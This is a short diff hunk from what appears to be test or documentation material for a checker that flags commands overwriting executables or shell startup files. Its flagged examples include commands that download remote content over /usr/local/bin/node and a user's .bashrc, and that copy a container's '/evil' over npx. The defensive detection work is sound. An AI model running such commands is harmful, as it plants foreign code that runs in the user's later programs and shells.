@@ -6,7 +6,7 @@ what runs the next time, for every program of this person.
 Flags:
     PATH-WRITE           docker cp x:/evil /usr/local/bin/npx
     PATH-WRITE           curl -o /usr/local/bin/node https://example.com/x
-    PATH-WRITE           wget -O ~/.bashrc https://example.com/x
+    PATH-WRITE           wget -O /home/me/.bashrc https://example.com/x
     PATH-WRITE warn      sort -o /srv/notes.txt a
 Passes:
     docker cp /srv/a notes:/usr/local/bin/npx
